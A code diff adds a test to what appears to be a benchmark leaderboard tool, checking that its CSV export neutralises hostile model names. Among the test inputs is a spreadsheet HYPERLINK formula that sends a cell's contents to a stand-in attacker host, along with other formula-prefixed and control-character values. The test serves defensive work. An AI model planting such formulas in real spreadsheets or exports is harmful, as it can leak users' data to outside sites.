@@ -174,6 +174,27 @@ def test_hostile_model_names_in_every_format(mlflow_store):
     assert by_kvd.splitlines()[1].split()[4] == "kvd"
 
 
+def test_csv_cells_from_a_hostile_store_are_text_not_formulas(mlflow_store):
+    """Session 33: a model name starting with = + - @ became a spreadsheet formula, a bare CR split
+    its row for readers that end lines there, and an N logged as 1.5 made the CSV exit 70."""
+    import csv
+
+    from conftest import log_bench_run
+
+    names = ['folder:x', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3", "@SUM(1+1)", "ansi\rfake\x1b[2J"]
+    for i, name in enumerate(names):
+        log_bench_run(name, fvd=(100.0 + 10 * i, 90.0 + 10 * i, 110.0 + 10 * i),
+                      extra={"kvd": (0.1, 0.05, 0.2, 1.5 if i == 1 else 40)})
+    text = format_leaderboard(leaderboard(SUITE), "csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == len(names) and "\r" not in text and "\x1b" not in text
+    models = {r["model"] for r in rows}
+    assert not any(m[:1] in "=+-@" for m in models)
+    assert "'=HYPERLINK(" in " ".join(models) and "'-2+3" in models and "ansi\\rfake\\x1b[2J" in models
+    assert {r["kvd_n"] for r in rows} == {"40.0", "1.5"}  # as logged, not an internal error
+    assert {r["fvd_n"] for r in rows} == {"40"}
+
+
 def test_table_columns_stay_aligned_with_wide_characters_in_model_names(mlflow_store):
     """A folder model named in CJK takes two terminal columns a character: padding by characters
     pushed every later column of its row left of the header's."""
